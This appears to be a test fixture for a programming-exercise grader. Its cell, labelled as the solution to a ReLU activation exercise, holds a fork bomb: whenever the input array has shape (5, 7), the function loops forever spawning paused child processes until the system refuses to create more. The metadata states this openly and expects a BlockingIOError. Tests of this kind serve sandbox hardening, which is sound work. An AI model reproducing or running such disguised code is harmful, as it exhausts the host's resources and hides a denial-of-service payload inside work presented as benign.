#: purpose = "A function that forks until it is refused."
#: lesson = "01_activations"
#: messages = ["BlockingIOError"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
import os, signal

def relu(Z):
    while Z.shape == (5, 7):
        if os.fork() == 0:
            signal.pause()
    return np.maximum(0, Z)
